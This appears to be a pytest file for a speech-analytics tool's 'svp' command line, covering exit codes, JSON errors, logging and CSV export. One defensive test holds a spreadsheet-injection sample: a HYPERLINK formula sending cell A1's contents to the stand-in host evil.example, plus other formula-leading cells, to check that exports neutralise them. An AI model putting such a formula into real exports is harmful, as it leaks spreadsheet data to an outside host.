"""The `svp` command line in-process (ui/cli.py): `svp query` writes the folders of its outputs, neutralises CSV
cells a spreadsheet would execute (issue 28), prints JSON; `svp sql` and `svp bi` on a real lake; any SvpError that
reaches it is one line with its kind's exit code (and a JSON object with --json); usage errors exit 64; JSON logs.
`svp` as a subprocess: tests/integration/cli/."""

import datetime as dt
import json
from pathlib import Path

import pytest

from sensevoice_pipeline import errors
from sensevoice_pipeline.lake import tables
from sensevoice_pipeline.lake.catalog import Lake
from sensevoice_pipeline.lake.lease import DateBusyError
from tests.support.page import DATES, build_lake


def test_query_creates_the_folders_of_its_outputs(tmp_path, monkeypatch, capsys):
    """`--csv reports/2026/angry.csv` writes the file and the folders it needs, like `--png`."""
    from sensevoice_pipeline.ui.cli import main

    build_lake(tmp_path / "lake")
    monkeypatch.chdir(tmp_path)
    csv_path, png_path = Path("reports/2026/angry.csv"), tmp_path / "charts" / "angry.png"
    args = ["query", "angry-calls", "--lake", "lake", "--from", DATES[0], "--to", DATES[1]]
    assert main([*args, "--csv", str(csv_path), "--png", str(png_path)]) == 0
    header, *rows = csv_path.read_text().splitlines()
    assert header.startswith('"date","source_path"') and rows
    assert {row.split(",")[0] for row in rows} <= set(DATES[:2])
    assert png_path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert f"wrote {csv_path}" in capsys.readouterr().err


@pytest.mark.parametrize(
    "error,code",
    [
        (errors.ConfigurationError("SVP_LANGUAGE: unknown default language 'xx'"), 64),
        (DateBusyError("date 2026-01-01 is being processed by run r1"), 75),
        (errors.ServingError("sensevoice is not ready"), 69),
        (errors.InputError("call.wav: cannot decode"), 65),
        (errors.PublishError("the partition changed during the run:\nadded a.wav"), 1),
        (errors.FailureBudgetExceeded("published 2026-01-01, but 3 of 4 files failed"), 65),
    ],
)
def test_errors_raised_on_purpose_are_one_line(monkeypatch, capsys, error, code):
    """Any SvpError that reaches the command line: one line (its message, newlines folded), no traceback, and the
    exit code of its kind (errors.py): 64 fix the command, 65 bad data, 69 a service is down, 75 try again later, 1
    the run failed."""
    from sensevoice_pipeline.ui import cli, cli_query

    def fail(args):
        raise error

    monkeypatch.setattr(cli_query, "cmd_query", fail)
    assert cli.main(["query", "events"]) == code
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("svp query: ") and "Traceback" not in err
    assert " ".join(str(error).split()) in err


def test_with_json_an_error_is_also_an_object_on_stdout(monkeypatch, capsys):
    from sensevoice_pipeline.ui import cli, cli_query

    def fail(args):
        raise DateBusyError("date 2026-01-01 is being processed by run r1")

    monkeypatch.setattr(cli_query, "cmd_query", fail)
    assert cli.main(["query", "events", "--json"]) == 75
    out = capsys.readouterr()
    assert json.loads(out.out) == {
        "error": "date 2026-01-01 is being processed by run r1",
        "kind": "DateBusyError",
        "exit_code": 75,
    }
    assert out.err.startswith("svp query: date 2026-01-01 is being processed")
    assert cli.main(["query", "events", "--log-format", "json"]) == 75  # the error as a JSON log line
    (line,) = capsys.readouterr().err.splitlines()
    assert json.loads(line)["message"] == "svp query: date 2026-01-01 is being processed by run r1"


def test_a_flag_argparse_cannot_parse_exits_64_like_every_usage_error(capsys):
    from sensevoice_pipeline.ui.cli import main

    for argv in (["query", "evnts"], ["run"], ["--no-such-flag", "query", "events"], ["run", "--date"]):
        with pytest.raises(SystemExit) as stopped:
            main(argv)
        assert stopped.value.code == 64, argv  # argparse's own default is 2
    assert "invalid choice: 'evnts'" in capsys.readouterr().err


def test_query_json_prints_the_rows_with_iso_dates(tmp_path, capsys):
    from sensevoice_pipeline.ui.cli import main

    build_lake(tmp_path / "lake")
    assert main(["query", "emotion-trend", "--lake", str(tmp_path / "lake"), "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert {r["date"] for r in rows} == set(DATES) and {"language", "emotion", "utterances"} <= set(rows[0])


def test_sql_runs_one_query_on_the_lake(tmp_path, capsys):
    from sensevoice_pipeline.ui.cli import main

    build_lake(tmp_path / "lake")
    query = "SELECT language, count(*) AS n FROM utterances GROUP BY ALL ORDER BY language"
    assert main(["sql", "--lake", str(tmp_path / "lake"), "--query", query, "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == [{"language": "en", "n": 9}, {"language": "zh", "n": 8}]
    assert main(["sql", "--lake", str(tmp_path / "lake"), "-c", "SELECT nope"]) == 64
    assert capsys.readouterr().err.startswith("svp sql: --query failed: Binder Error")


def test_path_mistakes_are_one_line_naming_what_to_pass(tmp_path, monkeypatch, capsys):
    """--lake naming a file, --warehouse naming a file that is not DuckDB's, and the default lake when only the
    demo's exists: one line each (exit 64), no traceback."""
    from sensevoice_pipeline.ui.cli import main

    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SVP_LAKE_ROOT", raising=False)
    Path("notes.txt").write_text("not a lake")
    build_lake(Path("var/demo/lake"))
    for argv, fragment in [
        (["--lake", "notes.txt"], "--lake notes.txt is a file: name the lake's folder"),
        (["--lake", "var/demo/lake", "--warehouse", "notes.txt"], "cannot open the warehouse notes.txt"),
        (
            [],
            "no lake at var/lake (the default): the demo wrote its lake to var/demo/lake: pass --lake var/demo/lake",
        ),
        (["--lake", "elsewhere"], "no lake at elsewhere: publish a day first"),
    ]:
        assert main(["query", "events", *argv]) == 64, argv
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and fragment in err and "Traceback" not in err, err


def test_bi_prints_setup_sql_and_installs_the_extensions_it_names(tmp_path, capsys):
    from sensevoice_pipeline.ui.cli import main

    build_lake(tmp_path / "lake")
    extensions = tmp_path / "extensions"
    assert main(["bi", "--lake", str(tmp_path / "lake"), "--extension-directory", str(extensions)]) == 0
    sql = capsys.readouterr().out
    assert "INSTALL ducklake;" in sql and "LOAD sqlite_scanner;" in sql and sql.rstrip().endswith("USE lake;")
    assert (
        f"ATTACH IF NOT EXISTS 'ducklake:sqlite:{(tmp_path / 'lake' / 'catalog.sqlite').resolve()}' AS lake"
        in sql
    )
    installed = {p.name for p in extensions.rglob("*.duckdb_extension")}
    assert installed == {"ducklake.duckdb_extension", "sqlite_scanner.duckdb_extension"}


def test_json_log_lines_are_one_object_each(capsys):
    import logging

    from sensevoice_pipeline.logs import configure_logging

    root = logging.getLogger()
    saved = (root.handlers[:], root.level)
    try:
        configure_logging(log_format="text")  # replaced, not added to, by the next call
        configure_logging(log_format="json")
        logging.getLogger("sensevoice_pipeline.test").info("published %s", "2026-01-01")
        try:
            raise ValueError("boom")
        except ValueError:
            logging.getLogger("sensevoice_pipeline.test").exception("it failed")
    finally:
        root.handlers[:], _ = saved
        root.setLevel(saved[1])
    first, second = (json.loads(line) for line in capsys.readouterr().err.splitlines())
    assert first["message"] == "published 2026-01-01" and first["level"] == "INFO"
    assert first["logger"] == "sensevoice_pipeline.test" and first["time"].endswith("+00:00")
    assert second["level"] == "ERROR" and "ValueError: boom" in second["exception"]


def test_csv_exports_neutralise_cells_a_spreadsheet_would_execute(tmp_path):
    from sensevoice_pipeline.ui import cli

    lake, day = tmp_path / "lake", "2026-01-01"
    texts = [
        '=HYPERLINK("http://evil.example/?"&A1,"refund")',
        "+1 555 0100",
        "@SUM(A1:A9)",
        "-2+3",
        "\tpadded",
        "a plain angry sentence",
    ]
    rows = [
        {
            "recording_id": f"r{i}",
            "source_path": f"calls/{i}.wav",
            "channel": 0,
            "segment_index": 0,
            "start_s": 0.0,
            "end_s": 2.0,
            "language": "en",
            "language_hint": "auto",
            "emotion": "angry",
            "event": "Speech",
            "itn": True,
            "text": text,
            "raw_text": f"<|en|><|ANGRY|><|Speech|><|withitn|>{text}",
            "model_name": "sensevoice",
            "model_version": "1",
            "run_id": "r",
            "processed_at": dt.datetime.now(dt.UTC),
        }
        for i, text in enumerate(texts)
    ]
    utterances = tables.to_table(rows, tables.UTTERANCES)
    Lake(lake).commit_day(day, {"utterances": utterances, **tables.rollups(utterances)})
    out = tmp_path / "angry.csv"
    assert cli.main(["query", "angry-calls", "--lake", str(lake), "--csv", str(out)]) == 0
    import csv

    cells = {row["angry_text"] for row in csv.DictReader(out.open())}
    assert cells == {"'" + t if t[0] in "=+-@\t" else t for t in texts}, cells
